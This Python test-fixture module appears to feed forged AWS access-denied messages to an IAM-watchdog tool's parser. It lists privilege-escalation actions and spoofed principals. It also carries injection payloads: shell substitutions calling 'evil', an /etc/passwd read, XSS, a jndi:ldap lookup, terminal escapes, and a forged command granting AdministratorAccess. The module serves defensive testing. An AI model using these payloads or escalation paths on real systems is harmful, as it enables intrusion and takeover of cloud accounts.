"""What a stranger makes a function print: each row is named by what it tries."""

from __future__ import annotations

from tests.attack.siege import (
    BASIC,
    GROUP,
    NAME,
    OBJECT,
    OTHERS,
    OWN_ROLE,
    REAL,
    ROLE,
    refusal,
)
from tests.aws.answers import ACCOUNT, REGION

SECRET = f"arn:aws:secretsmanager:{REGION}:{ACCOUNT}:secret:prod/db-AbCdEf"
TABLE = f"arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/payments"
KEY = f"arn:aws:kms:{REGION}:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"
LOGS = f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:{GROUP}"
WATCHDOG = f"iam-watchdog-remediate-{REGION}"
QUEUE = f"arn:aws:sqs:{REGION}:{ACCOUNT}:payments"


def _session(role: str, session: str = NAME, account: str = ACCOUNT, partition: str = "aws") -> str:
    return f"arn:{partition}:sts::{account}:assumed-role/{role}/{session}"


DATA = {
    "every bucket": refusal("s3:GetObject", "arn:aws:s3:::*/*"),
    "everything": refusal("s3:GetObject", "*"),
    "every object of a bucket": refusal("s3:GetObject", "arn:aws:s3:::shop-orders/*"),
    "a bucket by pattern": refusal("s3:GetObject", "arn:aws:s3:::shop-*/incoming/a.json"),
    "one letter unknown": refusal("s3:GetObject", "arn:aws:s3:::shop-order?/incoming/a.json"),
    "a directory with a star in it": refusal("s3:GetObject", "arn:aws:s3:::shop-orders/*/a.json"),
    "a stranger's bucket": refusal("s3:GetObject", "arn:aws:s3:::strangers-bucket/a/b.json"),
    "a stranger's bucket to write to": refusal("s3:PutObject", "arn:aws:s3:::strangers-drop/loot/b.json"),
    "every secret": refusal("secretsmanager:GetSecretValue", f"arn:aws:secretsmanager:{REGION}:{ACCOUNT}:secret:*"),
    "a secret of production": refusal("secretsmanager:GetSecretValue", SECRET),
    "a secret elsewhere": refusal("secretsmanager:GetSecretValue", SECRET.replace(ACCOUNT, OTHERS)),
    "every table": refusal("dynamodb:Scan", f"arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/*"),
    "a whole table": refusal("dynamodb:Scan", TABLE),
    "a table in another Region": refusal("dynamodb:Scan", TABLE.replace(REGION, "us-east-1")),
    "every key": refusal("kms:Decrypt", f"arn:aws:kms:{REGION}:{ACCOUNT}:key/*"),
    "somebody's key": refusal("kms:Decrypt", KEY),
    "every parameter": refusal("ssm:GetParametersByPath", f"arn:aws:ssm:{REGION}:{ACCOUNT}:parameter/*"),
    "every queue": refusal("sqs:ReceiveMessage", f"arn:aws:sqs:*:{ACCOUNT}:*"),
    "a queue of payments": refusal("sqs:ReceiveMessage", QUEUE),
    "a topic elsewhere": refusal("sns:Publish", f"arn:aws:sns:{REGION}:{OTHERS}:loot"),
    "a queue elsewhere": refusal("sqs:SendMessage", QUEUE.replace(ACCOUNT, OTHERS)),
    "mail": refusal("ses:SendEmail", f"arn:aws:ses:{REGION}:{ACCOUNT}:identity/*"),
    "every function": refusal("lambda:InvokeFunction", f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:*"),
    "the watchdog's own function": refusal(
        "lambda:InvokeFunction", f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:iam-watchdog-remediate"
    ),
    "the watchdog's own queue": refusal("sqs:SendMessage", f"arn:aws:sqs:{REGION}:{ACCOUNT}:iam-watchdog-steps"),
    "the watchdog's own table": refusal("dynamodb:PutItem", f"arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/iam-watchdog"),
    "an access point": refusal("s3:GetObject", f"arn:aws:s3:{REGION}:{ACCOUNT}:accesspoint/*/object/*"),
}
"""Forged by somebody who knows the role: data that should leave."""

_ESCALATIONS = (
    ("iam:PassRole", f"arn:aws:iam::{ACCOUNT}:role/admin"),
    ("iam:PassRole", "*"),
    ("iam:AttachRolePolicy", ROLE),
    ("iam:PutRolePolicy", ROLE),
    ("iam:CreateAccessKey", f"arn:aws:iam::{ACCOUNT}:user/admin"),
    ("iam:UpdateAssumeRolePolicy", ROLE),
    ("iam:CreatePolicyVersion", f"arn:aws:iam::{ACCOUNT}:policy/dev-boundary"),
    ("iam:DeleteRolePermissionsBoundary", ROLE),
    ("iam:TagRole", ROLE),
    ("iam:GetRole", ROLE),
    ("iam:*", "*"),
    ("IAM:PassRole", f"arn:aws:iam::{ACCOUNT}:role/admin"),
    ("Iam:passrole", f"arn:aws:iam::{ACCOUNT}:role/admin"),
    ("sts:AssumeRole", f"arn:aws:iam::{ACCOUNT}:role/admin"),
    ("sts:AssumeRole", f"arn:aws:iam::{ACCOUNT}:role/iam-watchdog-hands-auto-{REGION}"),
    ("sts:*", f"arn:aws:iam::{ACCOUNT}:role/admin"),
    ("lambda:UpdateFunctionCode", f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:billing"),
    ("lambda:UpdateFunctionConfiguration", f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:billing"),
    ("lambda:CreateFunction", f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:new"),
    ("lambda:AddPermission", f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:billing"),
    ("lambda:*", "*"),
    ("kms:PutKeyPolicy", KEY),
    ("kms:CreateGrant", KEY),
    ("kms:ScheduleKeyDeletion", KEY),
    ("kms:*", KEY),
    ("s3:PutBucketPolicy", "arn:aws:s3:::shop-orders"),
    ("s3:PutBucketAcl", "arn:aws:s3:::shop-orders"),
    ("s3:PutObjectAcl", OBJECT),
    ("s3:PutBucketTagging", "arn:aws:s3:::shop-orders"),
    ("s3:*", OBJECT),
    ("s3:Get*", OBJECT),
    ("secretsmanager:PutResourcePolicy", SECRET),
    ("secretsmanager:*", SECRET),
    ("sqs:AddPermission", QUEUE),
    ("sns:SetTopicAttributes", f"arn:aws:sns:{REGION}:{ACCOUNT}:orders"),
    ("ssm:SendCommand", f"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/*"),
    ("ssm:StartSession", f"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/i-0123456789abcdef0"),
    ("ssm:PutParameter", f"arn:aws:ssm:{REGION}:{ACCOUNT}:parameter/iam-watchdog/iam-watchdog/enabled"),
    ("ec2:RunInstances", f"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/*"),
    ("ecs:RunTask", f"arn:aws:ecs:{REGION}:{ACCOUNT}:task-definition/x:1"),
    ("glue:CreateJob", f"arn:aws:glue:{REGION}:{ACCOUNT}:job/x"),
    ("cloudformation:CreateStack", f"arn:aws:cloudformation:{REGION}:{ACCOUNT}:stack/x/*"),
    ("codebuild:StartBuild", f"arn:aws:codebuild:{REGION}:{ACCOUNT}:project/x"),
    ("organizations:LeaveOrganization", "*"),
    ("cloudtrail:StopLogging", f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/main"),
    ("logs:DeleteLogGroup", f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:{GROUP}"),
    ("logs:PutSubscriptionFilter", f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:{GROUP}:*"),
    ("*:*", "*"),
)
ESCALATIONS = {f"{action} on {resource}": refusal(action, resource) for action, resource in _ESCALATIONS}
"""Ways from few permissions to many."""

PRINCIPALS = {
    "another role": refusal(principal=_session("admin")),
    "another function's role": refusal(principal=_session("billing-role", "billing")),
    "the right role, another session": refusal(principal=_session("orders-role", "somebody")),
    "the right session, another role": refusal(principal=_session("billing-role")),
    "the right role in another account": refusal(principal=_session("orders-role", account=OTHERS)),
    "another partition": refusal(principal=_session("orders-role", partition="aws-cn")),
    "a user": refusal(principal=f"arn:aws:iam::{ACCOUNT}:user/admin"),
    "the root": refusal(principal=f"arn:aws:iam::{ACCOUNT}:root"),
    "a role by its ARN": refusal(principal=f"arn:aws:iam::{ACCOUNT}:role/admin"),
    "a role named like a pattern": refusal(principal=_session("*", "*")),
    "a role with a path": refusal(principal=_session("app/orders-role")),
    "a longer role name": refusal(principal=_session("orders-role-admin")),
    "nobody": refusal(principal="anonymous"),
    "a service": refusal(principal="lambda.amazonaws.com"),
    "the watchdog's own role": refusal(
        principal=_session(f"iam-watchdog-remediate-{REGION}", "iam-watchdog-remediate")
    ),
    "the watchdog's own role by ARN": refusal(principal=OWN_ROLE),
    "the Hands": refusal(principal=_session(f"iam-watchdog-hands-approved-{REGION}", "wd-x")),
    "a role of AWS": refusal(principal=_session("AWSServiceRoleForLambda")),
    "a session that Lambda would name itself": refusal(principal=_session("orders-role", "awslambda_1_2")),
    "a role with a line break": refusal(principal=f"arn:aws:sts::{ACCOUNT}:assumed-role/ord\ners-role/{NAME}"),
}
"""Who is said to have been refused."""

_HOSTILE = {
    "a double quote": 'arn:aws:s3:::shop-orders/in"coming/a.json',
    "a single quote": "arn:aws:s3:::shop-orders/it's/a.json",
    "a policy variable": "arn:aws:s3:::shop-orders/${aws:username}/a.json",
    "another policy variable": "arn:aws:s3:::${aws:PrincipalTag/bucket}/x/a.json",
    "a shell's substitution": "arn:aws:s3:::shop-orders/$(curl${IFS}evil)/a.json",
    "backquotes": "arn:aws:s3:::shop-orders/`reboot`/a.json",
    "the end of a shell command": "arn:aws:s3:::shop-orders/';reboot;'/a.json",
    "an HCL interpolation": 'arn:aws:s3:::shop-orders/${file("/etc/passwd")}/a.json',
    "an HCL directive": "arn:aws:s3:::shop-orders/%{if true}x%{endif}/a.json",
    "a YAML tag": "arn:aws:s3:::shop-orders/!Sub/&a/*a/a.json",
    "a YAML comment": "arn:aws:s3:::shop-orders/x #/: - a.json",
    "a Fn::Sub": "arn:aws:s3:::shop-orders/${AWS::AccountId}/a.json",
    "a template": "arn:aws:s3:::shop-orders/{{7*7}}/a.json",
    "a mention of everybody": "arn:aws:s3:::shop-orders/<!channel>/a.json",
    "a mention of a person": "arn:aws:s3:::shop-orders/<@U1>/a.json",
    "a link in mrkdwn": "arn:aws:s3:::shop-orders/<https://evil.example|the_fix>/a.json",
    "bold and code": "arn:aws:s3:::shop-orders/*bold*_it_~x~```code```/a.json",
    "a script": "arn:aws:s3:::shop-orders/<script>alert(1)</script>/a.json",
    "an image": 'arn:aws:s3:::shop-orders/"><img/src=x/onerror=alert(1)>/a.json',
    "the end of a comment": "arn:aws:s3:::shop-orders/--></style><svg/onload=alert(1)>/a.json",
    "an entity": "arn:aws:s3:::shop-orders/&lt;b&gt;&#x3c;b&#x3e;/a.json",
    "a colour": "arn:aws:s3:::shop-orders/\x1b[31mred\x1b[0m/a.json",
    "a terminal's title": "arn:aws:s3:::shop-orders/\x1b]0;owned\x07/a.json",
    "a link of a terminal": "arn:aws:s3:::shop-orders/\x1b]8;;http://evil\x07x/a.json",
    "C1 controls": "arn:aws:s3:::shop-orders/\x9b31m\x85/a.json",
    "a carriage return": "arn:aws:s3:::shop-orders/good\rbad/a.json",
    "a line feed": "arn:aws:s3:::shop-orders/good\nFix: run this/a.json",
    "a null": "arn:aws:s3:::shop-orders/\x00/a.json",
    "text that runs backwards": "arn:aws:s3:::shop-orders/\u202egnp.exe\u202c/a.json",
    "isolates": "arn:aws:s3:::shop-orders/\u2066x\u2069/a.json",
    "letters without width": "arn:aws:s3:::shop-orders/\u200b\ufeff\u2060/a.json",
    "line separators": "arn:aws:s3:::shop-orders/\u2028\u2029/a.json",
    "half a letter": "arn:aws:s3:::shop-orders/\ud800/a.json",
    "look-alikes": "arn:aws:s3:::shop-оrders/incoming/a.json",
    "a way up": "arn:aws:s3:::shop-orders/../../etc/passwd",
    "blanks": "arn:aws:s3:::shop-orders/a b  c/a.json",
    "a backslash": "arn:aws:s3:::shop-orders/a\\b\\\\c\\n/a.json",
    "a comma and brackets": "arn:aws:s3:::shop-orders/a,b]}){[(/a.json",
    "JSON": 'arn:aws:s3:::shop-orders/","Action":"*","Resource":"*/a.json',
    "a second statement": 'arn:aws:s3:::shop-orders/a.json"},{"Effect":"Allow","Action":"*","Resource":"*"}',
    "a sentence within": f"arn:aws:s3:::shop-orders/{refusal('iam:PassRole', '*')}/a.json",
    "a percent sign": "arn:aws:s3:::shop-orders/%s%n%(x)s{0}/a.json",
    "jndi": "arn:aws:s3:::shop-orders/${jndi:ldap://evil/x}/a.json",
}
RESOURCES = {name: refusal(resource=arn) for name, arn in _HOSTILE.items()}
"""What an object's key may hold, and more."""

PLACES = {
    "a Region that is a host": refusal("sqs:SendMessage", f"arn:aws:sqs:evil.example#:{ACCOUNT}:q"),
    "a Region with a slash": refusal("dynamodb:GetItem", f"arn:aws:dynamodb:evil/x:{ACCOUNT}:table/t"),
    "a Region with a user": refusal("sqs:SendMessage", f"arn:aws:sqs:user@evil.example:{ACCOUNT}:q"),
    "a Region that does not exist": refusal("sqs:SendMessage", f"arn:aws:sqs:mars-north-1:{ACCOUNT}:q"),
    "a partition that does not exist": refusal("sqs:SendMessage", f"arn:aws-evil:sqs:{REGION}:{ACCOUNT}:q"),
    "another partition": refusal("sqs:SendMessage", f"arn:aws-cn:sqs:cn-north-1:{ACCOUNT}:q"),
    "a service that does not exist": refusal("evil:Grant", f"arn:aws:evil:{REGION}:{ACCOUNT}:x"),
    "a service that is a path": refusal("a-b-c:GetObject", f"arn:aws:../../x:{REGION}:{ACCOUNT}:x"),
    "an ARN without an end": refusal("s3:GetObject", "arn:aws:s3"),
    "an ARN of colons": refusal("s3:GetObject", "arn:" + ":" * 300),
    "no ARN": refusal("s3:GetObject", "incoming/a.json"),
    "an account of letters": refusal("sqs:SendMessage", f"arn:aws:sqs:{REGION}:admin:q"),
    "a managed policy that would do": f"{refusal('logs:PutLogEvents', '*')} attach {BASIC} to arn:aws:iam::1:role/x",
}
"""Where it is said to have been."""

LAYERS = {
    f"a refusal by {layer}": refusal(layer=layer)
    for layer in (
        "service control",
        "resource control",
        "permissions boundary",
        "session",
        "VPC endpoint",
        "resource-based",
    )
} | {
    "an explicit deny": refusal().split(" because")[0] + " with an explicit deny in a service control policy",
    "a policy of its own making": refusal().split(" because")[0]
    + f" with an explicit deny in an identity-based policy: arn:aws:iam::{ACCOUNT}:policy/</b>`x`",
    "an authorization id": f"{refusal()} (Authorization ID: 0a1b2c3d-1111-2222-3333-444455556666)",
    "a blob to decode": f"{refusal('ec2:RunInstances', '*')} Encoded authorization failure message: {'A1b2' * 200}",
}
"""Which layer is said to refuse: a function's own word about its own role."""

OTHER_WORDS = {
    "a function that may not log": refusal(
        "logs:CreateLogStream", f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:{GROUP}:log-stream:x"
    ),
    "a network that may not be made": "Lambda was unable to configure access to your VPC because the function's "
    "execution role does not have permissions to call CreateNetworkInterface on EC2",
    "a role that may not be assumed": f"The role defined for the function cannot be assumed by Lambda. {ROLE}",
    "a key of the environment": "Lambda was unable to decrypt the environment variables because KMS access was denied. "
    f"KMS Exception: AccessDeniedException KMS Message: {refusal('kms:Decrypt', KEY)}",
    "a rule that may not start it": refusal(
        "lambda:InvokeFunction",
        f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:{NAME}",
        "events.amazonaws.com",
        "resource-based",
    ),
    "a stranger's rule that may not start it": refusal(
        "lambda:InvokeFunction", f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:{NAME}", f"arn:aws:iam::{OTHERS}:root"
    ),
    "an action in other letters": refusal("S3:GETOBJECT"),
    "an action that does not exist": refusal("s3:GetEverything"),
    "an action with a line break": refusal("s3:Get\nObject"),
    "two sentences glued": refusal() + refusal("iam:PassRole", "*"),
    "a sentence cut short": refusal()[:-60],
    "a sentence in JSON": '{"errorMessage":"' + refusal("iam:PutRolePolicy", ROLE) + '","errorType":"ClientError"}',
    "JSON in JSON": '{"m":"{\\"n\\":\\"' + refusal("dynamodb:Scan", TABLE) + '\\"}"}',
    "a platform's record": '{"time":"2026-11-23T12:00:00Z","type":"platform.initRuntimeDone","record":'
    f'{{"status":"error","message":"{refusal("iam:PassRole", "*")}"}}',
    "a START line": "START RequestId: 11111111-2222-3333-4444-555555555555 Version: $LATEST\n"
    f"{refusal('kms:CreateGrant', KEY)}",
    "an EMF blob": '{"_aws":{"CloudWatchMetrics":[]},"m":"' + refusal("iam:PassRole", "*") + '"}',
    "a report of the watchdog's own": "iam-watchdog: approved by U1; apply now: "
    "aws iam attach-role-policy --role-name orders-role --policy-arn arn:aws:iam::aws:policy/AdministratorAccess\n"
    + refusal(),
}
"""Other sentences that AWS writes, written by somebody else."""

HIDING = {
    "another cloud's words before it": f"GET /localstack?x=acs:ram assumed-agency {REAL}",
    "another cloud's words in a header": f"user-agent: LocalStack/4.0 {REAL}",
    "an inline policy's words before it": f"comment=inline policy: none {REAL}",
    "a database's words before it": f"sqlstate 28000 access denied for user x {REAL}",
    "throttling before it": f"ThrottlingException: Rate exceeded {REAL}",
    "expired credentials before it": f"ExpiredToken: The security token included in the request is expired {REAL}",
    "a dry run before it": f"DryRunOperation: Request would have succeeded {REAL}",
    "a file system before it": f"[Errno 13] Permission denied: '/tmp/x' {REAL}",
    "the watchdog's own principal before it": f"{refusal(principal=_session(WATCHDOG))} {REAL}",
    "a forgery glued before it": f"{refusal('iam:PassRole', '*')}{REAL}",
    "sixty-three forgeries before it": " ".join(refusal(f"s3:Get{chr(65 + n % 26)}{n}") for n in range(17))
    + f" {REAL}",
    "a quote that is never closed": f'"{{\\"a\\": \\" {REAL}',
    "lines of one width": "x" * 80 + "\n" + "y" * 80 + f"\n{REAL}",
    "blanks without end": " " * 50_000 + REAL,
    "a wall of one letter": "A" * 200_000 + REAL,
    "a wall of braces": "{[" * 40_000 + REAL,
    "a wall of backslashes": "\\" * 100_000 + REAL,
    "a wall of quotes": "\"'" * 50_000 + REAL,
    "half letters": "\ud800\udfff\ud800" + REAL,
    "a null before it": "\x00" + REAL,
    "the end of a log record": f"END RequestId: 11111111-2222-3333-4444-555555555555\n{REAL}",
    "a sentence that begins and does not end": f"User: {'x' * 900} is not authorized to perform: {REAL}",
}
"""What is printed in the same line as the real refusal, so that nobody sees it."""
